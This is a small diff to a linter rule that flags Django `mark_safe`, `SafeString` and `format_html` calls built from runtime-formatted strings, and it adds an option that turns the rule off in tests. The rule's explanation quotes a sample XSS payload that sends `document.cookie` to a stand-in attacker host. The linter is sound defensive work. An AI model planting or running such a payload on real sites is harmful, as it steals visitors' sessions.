@@ -35,6 +35,7 @@ export default defineRule({
     // Bandit B308 and Ruff S308 report these calls too.
     alsoCovers: ['B308', 'S308'],
     fixable: true,
+    offInTests: true,
     docs: {
       what: 'Finds `mark_safe(...)` / `SafeString(...)` whose argument is built with an f-string, `%`, `.format()` or `+` from values known only at run time (directly or through a variable assigned once), and `format_html(...)` whose format string is itself built that way — which defeats the escaping `format_html` exists for.',
       why: 'The formatted values are pasted into HTML that Django then trusts: a user name of `<img src=x onerror=fetch("//evil.example/"+document.cookie)>` runs script in every visitor\'s browser (cross-site scripting), stealing sessions or acting as the victim. `format_html("<b>{}</b>", name)` escapes each value (and leaves values that are already safe HTML alone); pre-formatting the string before handing it to `format_html` or `mark_safe` skips that.',
